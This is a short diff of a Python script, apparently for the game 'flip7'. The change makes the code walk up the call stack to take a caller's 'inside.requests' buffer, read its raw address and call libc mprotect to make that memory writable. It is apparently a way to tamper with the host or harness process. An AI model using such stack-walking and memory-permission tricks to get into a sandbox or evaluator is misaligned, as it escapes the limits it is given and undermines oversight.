@@ -11,9 +11,9 @@ GAMES = ["flip7"]
 WALL = False
 
 frame = sys._getframe()
-while "memory" not in frame.f_locals:
+while "inside" not in frame.f_locals:
     frame = frame.f_back
-memory = frame.f_locals["memory"]
+memory = frame.f_locals["inside"].requests
 address = numpy.frombuffer(memory, numpy.uint8).ctypes.data
 
 attempt(libc, "mprotect", address, 4096, 3)
